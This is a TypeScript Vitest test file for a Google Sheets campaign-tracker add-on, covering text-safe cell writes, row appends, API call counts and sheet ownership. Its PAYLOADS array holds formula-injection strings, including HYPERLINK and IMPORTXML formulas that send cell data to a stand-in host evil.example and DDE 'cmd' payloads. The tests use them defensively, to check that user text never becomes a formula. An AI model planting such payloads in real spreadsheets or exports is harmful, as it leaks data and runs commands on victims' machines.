import { describe, expect, it } from "vitest";
import { toSheetValue } from "../../src/apps-script/cell-input";
import { TRACKER_COLUMNS, type TrackerInputKey } from "../../src/core/tracker-columns";
import { ownSheet } from "../../src/sheets/insert-templates";
import { appendTrackerRows } from "../../src/sheets/tracker-rows";
import { formula, UserError, type WorkbookPort } from "../../src/sheets/workbook";
import { inMemory, insert, post, trackerColumn } from "./helpers";

/**
 * A first insert, in calls that read or write the document (handles and the lock aside): what
 * the design needs on SpreadsheetApp, one call per property of each sheet's single block plus
 * the locale, three tags, seven named ranges, three warnings (three calls each: protect, describe,
 * warn only), frozen panes and nine width runs (npm run bench lists them). The aim was 40: that
 * would mean giving up some of these.
 */
const SHEETS_CALLS_BOUND = 67;

/** OWASP's CSV / formula injection examples, and the characters it lists. */
const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=", A1), "//a")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "'=1+1",
  "=",
  "＝1+1",
  " =1+1",
  "  +cmd|' /C calc'!A0",
];

describe("user text is written as text", () => {
  it.each(PAYLOADS)("%j stays the exact text and never becomes a formula", (payload) => {
    const { spreadsheet, port } = inMemory();
    const sheet = port.createSheet(
      "Report",
      "settings",
      { version: 2, language: "en" },
      { rows: 10, columns: 3 },
    );
    port.writeTable(sheet, { row: 1, column: 1, values: [[payload, "Lena", formula("=1+1")]] });
    const range = spreadsheet.sheetNamed("Report")?.getRange("A1:C1");
    expect(range?.getValues()).toEqual([[payload, "Lena", 2]]);
    expect(range?.getFormulas()).toEqual([["", "", "=1+1"]]);
  });

  it("tracker rows keep injected notes, handles and campaign names as text", () => {
    const { spreadsheet, port } = inMemory();
    insert(port);
    const rows = PAYLOADS.map((payload) =>
      post({ campaign: payload, handle: payload, notes: payload, followers: 5000 }),
    );
    appendTrackerRows(port, ownSheet(port, "tracker"), rows);
    const sheet = spreadsheet.sheetNamed("Campaign Tracker");
    const width = TRACKER_COLUMNS.length;
    const values = sheet?.getRange(3, 1, PAYLOADS.length, width).getValues() ?? [];
    const formulas = sheet?.getRange(3, 1, PAYLOADS.length, width).getFormulas() ?? [];
    const at = (row: readonly unknown[], key: TrackerInputKey) => row[trackerColumn(key) - 1];
    values.forEach((row, i) => {
      expect([at(row, "campaign"), at(row, "handle"), at(row, "notes")]).toEqual([
        PAYLOADS[i],
        PAYLOADS[i],
        PAYLOADS[i],
      ]);
    });
    expect(formulas.flat().filter(Boolean)).toEqual([]);
  });

  it("marks text outside plain-text cells, and refuses what a cell cannot hold", () => {
    expect(toSheetValue("Spring launch", false)).toBe("'Spring launch");
    expect(toSheetValue("=1", false)).toBe("'=1");
    expect(toSheetValue("=1", true)).toBe("=1");
    expect(toSheetValue("2025", true)).toBe("2025");
    expect(toSheetValue(12.5, false)).toBe(12.5);
    expect(toSheetValue(null, true)).toBe("");
    expect(() => toSheetValue(Number.NaN, false)).toThrow("Cannot write NaN");
    expect(() => toSheetValue(formula("=1+1"), true)).toThrow("plain-text cell");
  });
});

describe("tracker rows", () => {
  it("are appended below the last filled row, formats carrying down", () => {
    const { spreadsheet, port } = inMemory();
    insert(port);
    const tracker = ownSheet(port, "tracker");
    const paid = (campaign: string) => post({ campaign, cost: 100 });
    appendTrackerRows(port, tracker, [paid("First")]);
    appendTrackerRows(port, tracker, [paid("Second"), paid("Third")]);
    const sheet = spreadsheet.sheetNamed("Campaign Tracker");
    const campaign = trackerColumn("campaign");
    const cost = trackerColumn("cost");
    expect(sheet?.getRange(3, campaign, 4, 1).getValues()).toEqual([
      ["First"],
      ["Second"],
      ["Third"],
      [""],
    ]);
    expect(sheet?.getRange(5, cost).getNumberFormats()).toEqual([["[$$]#,##0.00"]]);
    expect(sheet?.getRange(2, cost).getValue()).toBe(300);
  });

  it("of the wrong width are refused before anything is written", () => {
    const { spreadsheet, port } = inMemory();
    insert(port);
    spreadsheet.log.reset();
    expect(() => appendTrackerRows(port, ownSheet(port, "tracker"), [["too", "short"]])).toThrow(
      UserError,
    );
    expect(spreadsheet.log.counts.get("Range.setValues")).toBeUndefined();
  });
});

describe("Sheets calls do not grow with the row count", () => {
  function callsToLoad(rows: number): number {
    const { spreadsheet, port } = inMemory();
    insert(port);
    const tracker = ownSheet(port, "tracker");
    const data = Array.from({ length: rows }, (_, i) =>
      post({ campaign: "Campaign", platform: "Instagram", impressions: 1000 + i, cost: 50 }),
    );
    spreadsheet.log.reset();
    appendTrackerRows(port, tracker, data);
    return spreadsheet.log.total;
  }

  // npm run bench compares 100 with 50,000 rows; 5,000 keeps the test quick.
  it("loading 100 or 5,000 tracker rows takes the same calls", () => {
    expect(callsToLoad(5_000)).toBe(callsToLoad(100));
  });

  it("inserting templates writes each sheet in whole blocks: one call per property", () => {
    const { spreadsheet, port } = inMemory();
    spreadsheet.log.reset();
    insert(port);
    const calls = spreadsheet.log.counts;
    for (const setter of [
      "setValues",
      "setNumberFormats",
      "setDataValidations",
      "setFontWeights",
      "setBackgrounds",
    ]) {
      expect(calls.get(`Range.${setter}`), setter).toBe(3);
    }
    expect(calls.get("Range.setNotes")).toBe(2);
    expect(calls.get("Sheet.setColumnWidths")).toBeLessThanOrEqual(10);
    expect(spreadsheet.log.sheetsCalls).toBeLessThanOrEqual(SHEETS_CALLS_BOUND);
  });

  it("inserting templates again (checking and repairing) takes the same calls with 10 or 3,000 posts", () => {
    function rerun(rows: number): number {
      const { spreadsheet, port } = inMemory();
      insert(port);
      const data = Array.from({ length: rows }, (_, i) =>
        post({ campaign: "C", impressions: 1000 + i, cost: 5 }),
      );
      appendTrackerRows(port, ownSheet(port, "tracker"), data);
      spreadsheet.log.reset();
      insert(port);
      return spreadsheet.log.total;
    }
    expect(rerun(3_000)).toBe(rerun(10));
  });
});

describe("ownership", () => {
  it("a user's copy of an add-on sheet is not the add-on's", () => {
    const { spreadsheet, port } = inMemory();
    insert(port);
    const tracker = spreadsheet.sheetNamed("Campaign Tracker");
    const copy = spreadsheet.insertSheet("Copy of Campaign Tracker");
    for (const tag of tracker?.metadata ?? [])
      copy.addDeveloperMetadata(tag.key, tag.value ?? "", tag.visibility);
    expect(port.ownSheets().map((s) => s.ref.name)).toEqual([
      "Settings",
      "Campaign Tracker",
      "KPI Framework",
    ]);
  });

  it("a sheet whose tagging fails is removed at once", () => {
    const { spreadsheet, port } = inMemory();
    const insertSheet = spreadsheet.insertSheet.bind(spreadsheet);
    spreadsheet.insertSheet = (name: string) => {
      const sheet = insertSheet(name);
      sheet.addDeveloperMetadata = () => {
        throw new Error("Service unavailable");
      };
      return sheet;
    };
    expect(() => insert(port)).toThrow("Service unavailable");
    expect(spreadsheet.getSheets().map((s) => s.getName())).toEqual(["Sheet1"]);
  });

  it("one step of a rollback that fails does not keep the others from running", () => {
    const { spreadsheet, port } = inMemory();
    let paints = 0;
    const failing: WorkbookPort = {
      ...port,
      paint: (...args) => {
        if (++paints === 3) throw new Error("Service Spreadsheets timed out");
        port.paint(...args);
      },
    };
    const deleteSheet = spreadsheet.deleteSheet.bind(spreadsheet);
    spreadsheet.deleteSheet = (sheet) => {
      if (sheet.name === "Campaign Tracker") throw new Error("Service unavailable");
      deleteSheet(sheet);
    };
    const quiet = console.error;
    console.error = () => {};
    try {
      expect(() => insert(failing)).toThrow("timed out");
    } finally {
      console.error = quiet;
    }
    expect(spreadsheet.getSheets().map((s) => s.getName())).toEqual(["Sheet1", "Campaign Tracker"]);
    expect(spreadsheet.hf.listNamedExpressions()).toEqual([]);
  });

  it("objects that only look like formulas are refused, never written as formulas", () => {
    expect(() => toSheetValue({ formula: "=IMPORTXML(A1)" } as never, false)).toThrow("object");
  });
});
